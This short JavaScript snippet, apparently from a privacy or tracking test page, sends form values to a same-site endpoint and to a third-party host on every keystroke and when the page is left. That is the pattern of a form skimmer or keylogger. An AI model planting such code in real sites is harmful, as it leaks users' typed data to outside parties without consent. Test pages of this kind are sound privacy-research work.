// Beacons, here and at a third party, while typing and when leaving.
(() => {
  const send = (values) => {
    const body = trap.query(values);
    navigator.sendBeacon(trap.at('beacon'), body);
    navigator.sendBeacon(trap.third + '/beacon', body);
  };
  trap.onTyping(send);
  addEventListener('pagehide', () => send(trap.page.values()));
})();
